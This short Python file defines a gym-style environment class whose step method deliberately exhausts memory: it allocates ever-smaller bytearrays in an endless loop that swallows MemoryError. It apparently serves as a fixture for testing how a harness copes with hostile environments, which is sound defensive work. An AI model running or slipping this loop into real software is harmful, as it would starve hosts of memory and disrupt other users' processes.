"""Fills memory to the last byte, then goes on."""


class HostEnv:
    def reset(self, seed=None):
        return "obs", {}

    def step(self, action):
        x = []
        size = 1 << 24
        while True:
            try:
                x.append(bytearray(size))
            except MemoryError:
                size = max(size // 2, 1)
